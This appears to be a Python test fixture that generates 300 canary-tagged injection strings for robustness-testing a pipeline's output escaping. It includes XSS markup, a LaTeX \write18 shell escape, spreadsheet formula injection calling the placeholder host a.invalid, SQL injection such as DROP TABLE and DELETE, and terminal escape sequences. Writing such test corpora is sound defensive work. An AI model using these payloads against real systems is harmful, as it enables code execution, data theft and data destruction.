"""payloads.py: three hundred texts that something reads as more than text, the
same on every run: markup, TeX, spreadsheet formulas, terminal sequences,
marks that turn or hide writing, SQL, and ends of strings of other kinds.
payloads() gives (kind, text) pairs; no text is longer than 200 bytes, no two
are the same. Texts with a control character stand in `kind` "control": labels
of a data file may refuse those, titles and file names may not hold all.
"""
import random

# @ stands for a canary: a word no report has of its own.
HTML = """<script>@()</script>¦</td></tr></table><script>@</script>¦
"><img src=x onerror=@>¦'><svg onload=@>¦<iframe src="//a.invalid/@">¦
--><b>@</b><!--¦<!--@¦<![CDATA[@]]>¦]]>@¦<?xml @?>¦&lt;b&gt;@¦&#60;@&#62;¦
&@;¦&amp;@¦&#x0;@¦&¦<@¦</title>@¦</style><p>@¦<a href="javascript:@">x</a>¦
<math><mi//xlink:href="data:x,@">¦<base href=//a.invalid>@¦
" autofocus onfocus="@¦` onmouseover=@¦<meta http-equiv=refresh content=0>@¦
</svg></figure>@¦<plaintext>@¦<textarea>@¦<link rel=stylesheet href=//a.invalid>@¦
<style>*{display:none}@</style>¦<form action=//a.invalid>@¦</desc><set to=@>"""
LATEX = r"""\input{canary}@¦\include{canary}@¦\write18{touch taken}@¦
\immediate\openout7=taken@¦\end{document}@¦\begin{verbatim}@¦\def\x{\x}\x @¦
\catcode`\@=0¦$@¦$$@¦@_{2}^{3}¦#1@¦%@¦\@¦\\@¦{@¦}@¦{}}{@¦~@¦^^5c^^69nput{canary}@¦
&@&¦\\[1em]@¦[@]¦*@¦\\*[@]¦--@--¦?`@!`¦\verb|@¦\csname @¦\noexpand@\fi¦\par@¦
\endinput@¦\usepackage{@}¦\newcommand{\x}{@¦\tabularnewline@¦\hline @¦"@"
¦``@''¦<<@>>¦\char"5C@¦\jobname@¦\number\count0 @¦\special{@}"""
SHEET = """=1+1&@¦=cmd|' /C @'!A0¦=HYPERLINK("http://a.invalid/@","x")¦+1+@¦-1+@¦
@SUM(1+1)¦=@¦+@¦-@¦@@¦=IMPORTXML(CONCAT("http://a.invalid/"),"@")¦
=DDE("a","@")¦=WEBSERVICE("http://a.invalid/@")¦ =1+@¦\u00a0=@¦\uff1d1+@¦
\uff0b@¦\uff0d@¦\uff20@¦=@",1¦";=@¦,=@¦"=@"¦'=@¦''=@¦=1,2,@¦%0A=@¦
=SUM(1;2)&@¦-2+3+@¦=rand()&"@"¦\u2003=@¦+44 20 @¦-@.5¦=TRUE&@"""
TEXT = """_x0041_@¦_x000D_@¦_x005F_@¦__x_@¦NULL@¦nan@¦1e5@¦0x41@¦#N/A@¦#REF!@¦
%s%s%n@¦%n%n@¦%1$*2$d@¦{0}@¦${@}¦$(@)¦`@`¦;@;¦&&@¦../../@¦..\\\\@¦C:@¦
true@¦None@¦undefined@¦\\\\u0041@¦\\\\n@¦\\\\@¦"@¦'@¦,@¦"",@¦a,b,"@¦
007@¦1.000.000@¦1,5@¦1/2@¦2026-01-01@¦@ (1.0 to 2.0)¦<.001@¦>150 @¦
0.80 to 1.25 @¦1.24 (1.05 to 1.46)@¦\u22120.5@"""
SQL = """'; DROP TABLE cases;--@¦" OR ""="@¦1; DELETE FROM audit;@¦') OR ('@'='@¦
' UNION SELECT @¦x'; ATTACH 'taken' AS t;--@¦%' ESCAPE '@¦?1@¦:name@¦$x@¦
'||(SELECT @)||'¦/*@*/¦--@¦;VACUUM INTO 'taken';@¦[cases]@¦"cases"."@"¦
load_extension('@')¦' COLLATE NOCASE @"""
WRITING = """\u202e@¦\u202d@¦\u2066@¦\u2067@\u2069¦\u200f@¦\u061c@¦@\u200b@¦
@\u2060@¦\ufeff@¦@\u00ad@¦\u2028@¦\u2029@¦e\u0301\u0301\u0301@¦\u4e2d\u6587@¦
\U0001f600@¦\U0001f468\u200d\U0001f469@¦\u05d0\u05d1@¦\u0627\u0628@¦\ufffd@¦
\ufffe@¦\U000e0041@¦\u00fe\u00d0@¦\u0130\u0131@¦\ufb01@¦\u00b5\u03bc@¦
\u0e01\u0e33@¦\u1100\u1161@¦\u2212@\u2011¦\u2018@\u2019¦\u00bd@¦\u180e@¦\U000f0000@"""
CONTROL = ["\x1b[31m@", "\x1b]0;@\x07", "\x1b[2J@", "\x9b31m@", "\x90@\x9c",
           "\x08\x08@", "\r@", "@\n@", "@\t@", "\x7f@", "\x0c@", "\x0e@",
           "\x01@", "\x1b(0@", "\x1bc@", "\x1b[6n@", "\x1bP@\x1b\\",
           "\x85@", "\x1b[8m@", "\x1b]8;;http://a.invalid/@\x07x",
           "\r\n=@", "\x1f@", "\x1b[?1049h@", "\x1b]52;c;@\x07"]


def payloads(count=300):
    rand = random.Random(20260101)
    kinds = {"html": HTML, "latex": LATEX, "sheet": SHEET, "text": TEXT,
             "sql": SQL, "writing": WRITING}
    base = []
    for kind, texts in kinds.items():
        # A broken bar parts the texts, a line end behind it does not count.
        base += [(kind, t if "@" in t else t + "@") for t in
                 texts.replace("\u00a6\n", "\u00a6").split("\u00a6")]
    base += [("control", t) for t in CONTROL]
    out, seen = [], set()

    def add(kind, text):
        text = text.replace("@", f"zq{len(out):03d}")
        if len(text.encode()) <= 200 and text not in seen:
            seen.add(text)
            out.append((kind, text))

    for kind, text in base:
        add(kind, text)
    # Further ones: two of a kind or of different kinds run together.
    while len(out) < count:
        a, b = rand.sample(base, 2)
        kind = "control" if "control" in (a[0], b[0]) else a[0]
        add(kind, a[1] + b[1])
    return out[:count]


if __name__ == "__main__":
    import collections
    print(collections.Counter(k for k, _ in payloads()))
    for kind, text in payloads():
        print(kind, ascii(text))
